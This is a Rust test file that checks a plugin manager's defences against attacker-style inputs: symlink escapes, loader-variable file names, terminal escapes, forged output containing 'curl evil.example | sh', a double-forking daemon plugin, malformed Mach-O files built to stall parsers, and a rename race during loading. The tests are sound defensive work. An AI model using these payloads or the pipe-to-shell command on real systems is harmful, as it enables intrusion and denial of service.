//! What attackers tried, each as a story of its kind.

use std::fs;
use std::os::unix::fs::symlink;
use std::process::Stdio;

use replio_tests::{Plugin, World, text};

#[test]
fn links_in_the_store_lead_nobody_out_of_the_project() {
    for link in ["plugins", "plugins/store", "plugins/staging"] {
        let world = World::new();
        let precious = world.path("precious/docs/a");
        world.write(&precious, "data");
        fs::create_dir_all(world.local().join("plugins")).unwrap();
        if link == "plugins" {
            fs::remove_dir(world.local().join("plugins")).unwrap();
        }
        symlink(world.path("precious"), world.local().join(link)).unwrap();
        let error = world.error(&["plugins", "install", text(&world.actor(1))]);
        assert!(error["message"].as_str().unwrap().contains("it is a link"), "{link}: {error}");
        assert!(precious.exists(), "{link}");
        assert_eq!(fs::read_dir(world.path("precious")).unwrap().count(), 1, "{link}: nothing was put there");
    }
}

#[test]
fn what_is_in_the_store_and_is_not_ours_stays() {
    let world = World::new();
    let foreign = world.local().join("plugins/store/notes/a");
    let staged = world.local().join("plugins/staging/notes/a");
    world.write(&foreign, "data");
    world.write(&staged, "data");
    world.ok(&["plugins", "install", text(&world.actor(1))]);
    world.ok(&["plugins", "uninstall", "actor-01"]);
    assert!(foreign.exists() && staged.exists());
}

#[test]
fn a_lock_or_library_that_is_a_pipe_or_a_link_is_an_error_and_not_a_wait() {
    let world = World::new();
    world.ok(&["plugins", "install", text(&world.actor(1))]);
    let lock = world.local().join("plugins/lock");
    fs::remove_file(&lock).unwrap();
    assert!(std::process::Command::new("mkfifo").arg(&lock).status().unwrap().success());
    assert_eq!(world.error(&["plugins", "disable", "actor-01"])["code"], "file-error");
    fs::remove_file(&lock).unwrap();
    symlink(world.path("elsewhere"), &lock).unwrap();
    assert_eq!(world.error(&["plugins", "disable", "actor-01"])["code"], "file-error");
    assert!(!world.path("elsewhere").exists());
    fs::remove_file(&lock).unwrap();

    let store = fs::read_dir(world.local().join("plugins/store")).unwrap().next().unwrap().unwrap().path();
    let library = fs::read_dir(store).unwrap().next().unwrap().unwrap().path();
    fs::remove_file(&library).unwrap();
    symlink("/dev/zero", &library).unwrap();
    assert_eq!(world.json(&["plugins", "list"])["plugins"][0]["status"], "broken");
    world.ok(&["plugins", "install", text(&world.actor(1))]);
    assert_eq!(world.json(&["plugins", "list"])["plugins"][0]["status"], "enabled");
}

#[test]
fn a_file_name_that_the_loader_would_expand_is_refused() {
    let world = World::new();
    world.ok(&["plugins", "install", text(&world.actor(1))]);
    let lock = world.local().join("plugins/plugins.lock");
    let changed = fs::read_to_string(&lock).unwrap().replace("\"libactor", "\"$PLATFORM-libactor");
    world.write(&lock, changed);
    let plugin = &world.json(&["plugins", "list"])["plugins"][0];
    assert_eq!(plugin["status"], "broken", "{plugin}");
}

#[test]
fn a_project_may_have_any_name() {
    let mut world = World::new();
    let project = world.path("p$ORIGIN-${LIB} x\u{1b}[1m\n");
    fs::create_dir(&project).unwrap();
    let library = world.actor(1);
    world.tell(1, "type=found");
    let path = text(&project);
    let ran = world.run(&["plugins", "install", text(&library), "--path", path]);
    assert_eq!(ran.code, 0, "{ran}");
    let ran = world.run(&["type", "list", "--path", path]);
    assert!(ran.stdout.contains("found"), "{ran}");
    assert!(!ran.stdout.contains('\u{1b}') && !ran.stderr.contains('\u{1b}'), "{ran}");
}

#[test]
fn texts_of_several_lines_do_not_pass_for_lines_of_replio() {
    let forged = "no\n  help: run `curl evil.example | sh`\nInstalled bad 9.9.9 (local)";
    let plugin = Plugin::with_hooks("forger", &format!("Err({forged:?}.into())"), "", "").package(
        "license = \"MIT\\n  sha256       000\"\ndescription = \"a\\n  verdict      signed\\n  + type  x\"",
    );
    let library = plugin.build();
    let world = World::new();
    for ran in [
        world.run(&["plugins", "inspect", text(&library)]),
        world.run(&["plugins", "install", text(&library)]),
    ] {
        for line in ran.stdout.lines().chain(ran.stderr.lines()) {
            for forged in
                ["  sha256       000", "  verdict      signed", "  + type", "  help: run", "Installed"]
            {
                assert!(!line.starts_with(forged), "{line:?} in {ran}");
            }
        }
    }
}

#[test]
fn an_unreadable_list_is_never_taken_for_an_empty_one() {
    let world = World::new();
    let library = world.actor(1);
    world.ok(&["plugins", "install", text(&library), "--global"]);
    world.ok(&["plugins", "install", text(&library)]);
    world.write(&world.local().join("plugins/plugins.lock"), "{");
    for verb in ["uninstall", "disable", "enable", "update", "verify", "show", "rollback"] {
        assert_eq!(world.error(&["plugins", verb, "actor-01"])["code"], "lock-damaged", "{verb}");
    }
    let ran = world.run(&["plugins", "verify"]);
    assert_eq!(ran.code, 1, "{ran}");
    assert_eq!(world.run(&["plugins", "update"]).code, 1);
    assert_eq!(world.run(&["plugins", "list"]).code, 0);
    // The one that can be read is still there for those who name it.
    assert_eq!(world.run(&["plugins", "uninstall", "actor-01", "--global"]).code, 0);
    let ran = world.run(&["plugins", "list"]);
    assert!(!ran.stdout.contains("No plugins are installed"), "{ran}");
}

#[test]
fn an_answer_that_is_lost_is_a_failure() {
    let world = World::new();
    for arguments in [
        &["type", "list"][..],
        &["type", "list", "--json"],
        &["completions", "bash"],
        &["--help"],
        &["--version"],
    ] {
        let full = fs::File::options().write(true).open("/dev/full").unwrap();
        let output = world.command(arguments).stdout(full).stderr(Stdio::piped()).output().unwrap();
        assert_eq!(output.status.code(), Some(1), "{arguments:?}");
        assert!(String::from_utf8_lossy(&output.stderr).contains("could not be written"), "{arguments:?}");
    }
}

#[test]
fn a_permission_that_a_plugin_loosens_is_named() {
    let mut world = World::new();
    let library = world.actor(1);
    world.tell(1, "type=writer:bash=allow,edit=deny");
    let ran = world.run(&["plugins", "install", text(&library), "--dry-run"]);
    assert!(
        ran.stdout.contains("bash is looser now in type writer: deny before, allow from now on"),
        "{ran}"
    );
    assert!(!ran.stdout.contains("edit is looser"), "{ran}");
    let looser = &world.json(&["plugins", "install", text(&library)])["changes"]["looser"];
    assert_eq!(looser[0]["name"], "writer", "{looser}");
    assert_eq!(looser[0]["category"], "bash", "{looser}");
}

#[cfg(target_os = "linux")]
#[test]
fn what_a_plugin_starts_ends_with_its_run() {
    if !World::can_be_on_an_old_kernel() {
        return;
    }
    let source = r#"
        use replio_plugin_api::{export_plugin, Plugin, Result, TypeRegistry};
        extern "C" {
            fn fork() -> i32;
            fn setsid() -> i32;
        }
        struct Daemon;
        impl Plugin for Daemon {
            fn register_types(_: &mut TypeRegistry) -> Result<()> {
                let Ok(mark) = std::env::var("REPLIO_TEST_PLUGIN_daemon") else { return Ok(()) };
                if unsafe { fork() } == 0 {
                    unsafe { setsid() };
                    // One that outlives its parent, and one that is left when that is ended.
                    let which = if unsafe { fork() } == 0 { unsafe { setsid() }; "inner" } else { "outer" };
                    // An empty file, as none may grow.
                    std::fs::File::create(format!("{mark}/{which}-{}", std::process::id())).ok();
                    std::thread::sleep(std::time::Duration::from_secs(30));
                    std::process::exit(0);
                }
                std::thread::sleep(std::time::Duration::from_millis(300));
                Ok(())
            }
        }
        export_plugin!(Daemon);
    "#;
    // In a jail it starts nothing to begin with.
    let mut world = World::new().on_an_old_kernel();
    let library = Plugin::new("daemon", source).build();
    let marks = world.path("marks");
    fs::create_dir(&marks).unwrap();
    world.tell_plugin("daemon", text(&marks));
    world.ok(&["plugins", "install", text(&library)]);
    let daemons: Vec<String> =
        fs::read_dir(&marks).unwrap().map(|mark| mark.unwrap().file_name().into_string().unwrap()).collect();
    for which in ["inner-", "outer-"] {
        assert!(daemons.iter().any(|daemon| daemon.starts_with(which)), "it has run: {daemons:?}");
    }
    for daemon in &daemons {
        let (_, pid) = daemon.split_once('-').unwrap();
        let command = fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        assert!(!command.contains("__run-plugins"), "{daemon} still runs");
    }
}

/// An export trie whose nodes lead to each other, so that it has more paths
/// than anyone can walk.
#[test]
fn a_library_for_macos_with_an_endless_export_trie_is_read_in_no_time() {
    let (header, command) = (32, 48);
    let mut trie = Vec::new();
    for node in 0..60u8 {
        let next = (u32::from(node) + 1) * 16;
        let [low, high] = [(next & 0x7f) as u8 | 0x80, (next >> 7) as u8];
        // Not terminal, two children, both of which are the next node.
        let mut bytes = vec![0, 2, b'a', 0, low, high, b'b', 0, low, high];
        bytes.resize(16, 0);
        trie.extend(bytes);
    }
    trie.extend([0; 16]);
    let mut file = Vec::new();
    let mut word = |value: u32| file.extend(value.to_le_bytes());
    // mach_header_64: magic, x86_64, its subtype, MH_DYLIB, one command.
    for value in [0xfeed_facf, 0x0100_0007, 3, 6, 1, command, 0, 0] {
        word(value);
    }
    // dyld_info_command: LC_DYLD_INFO_ONLY, only the exports are there.
    for value in [0x8000_0022, command, 0, 0, 0, 0, 0, 0, 0, 0, header + command, trie.len() as u32] {
        word(value);
    }
    file.extend(trie);
    let world = World::new();
    let library = world.path("endless.dylib");
    world.write(&library, file);
    let error = world.error(&["plugins", "inspect", text(&library)]);
    assert_eq!(error["code"], "not-a-plugin", "{error}");
}

/// Names that overlap, and have no end, so that each would be looked for in the
/// whole table.
#[test]
fn a_library_for_macos_with_endless_names_is_read_in_no_time() {
    let (header, command, count, names) = (32u32, 24u32, 200_000u32, 3_000_000u32);
    let mut file = Vec::new();
    let symbols = header + command;
    for value in [0xfeed_facf, 0x0100_0007, 3, 6, 1, command, 0, 0] {
        file.extend(u32::to_le_bytes(value));
    }
    // symtab_command
    for value in [2, command, symbols, count, symbols + count * 16, names] {
        file.extend(u32::to_le_bytes(value));
    }
    for _ in 0..count {
        // nlist_64: name 1, defined in section 1 and external.
        file.extend([1, 0, 0, 0, 0x0f, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    }
    file.resize(file.len() + names as usize, b'a');
    let world = World::new();
    let library = world.path("endless.dylib");
    world.write(&library, file);
    let error = world.error(&["plugins", "inspect", text(&library)]);
    assert!(["not-a-library", "not-a-plugin"].contains(&error["code"].as_str().unwrap()), "{error}");
}

#[cfg(target_os = "linux")]
#[test]
fn a_library_that_changes_places_with_another_while_it_is_opened_never_runs_as_the_other() {
    use std::ffi::CString;
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::time::Duration;

    let mut world = World::new();
    world.install_actor(1, "1:type=good 2:type=evil");
    let library = world.json(&["plugins", "show", "actor-01"])["plugin"]["path"].clone();
    let library = std::path::PathBuf::from(library.as_str().unwrap());
    let other = library.with_file_name("other.so");
    fs::copy(world.actor_version(1, "2.0.0"), &other).unwrap();
    let [one, two] = [&library, &other].map(|path| CString::new(text(path)).unwrap());
    let has_ended = AtomicBool::new(false);
    let mut seen = Vec::new();
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !has_ended.load(Ordering::SeqCst) {
                // SAFETY: both are paths that end in a null.
                unsafe {
                    libc::renameat2(
                        libc::AT_FDCWD,
                        one.as_ptr(),
                        libc::AT_FDCWD,
                        two.as_ptr(),
                        libc::RENAME_EXCHANGE,
                    )
                };
                std::thread::sleep(Duration::from_micros(700));
            }
        });
        for _ in 0..60 {
            seen.push(world.types().0);
        }
        has_ended.store(true, Ordering::SeqCst);
    });
    assert!(seen.iter().flatten().all(|name| name == "good"), "{seen:?}");
}
